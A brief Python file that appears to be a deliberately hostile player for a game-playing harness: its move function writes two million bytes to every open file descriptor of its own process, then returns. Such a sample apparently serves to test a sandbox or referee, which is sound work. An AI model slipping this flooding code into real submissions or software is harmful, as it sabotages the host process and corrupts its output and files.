"""Writes a line of two million bytes to every file descriptor that it can find."""

import os


def ia(game, side):
    line = b"x" * 2_000_000
    for descriptor in sorted(map(int, os.listdir("/proc/self/fd"))):
        try:
            sent = 0
            while sent < len(line):
                sent += os.write(descriptor, line[sent:])
        except OSError:
            pass
    return False
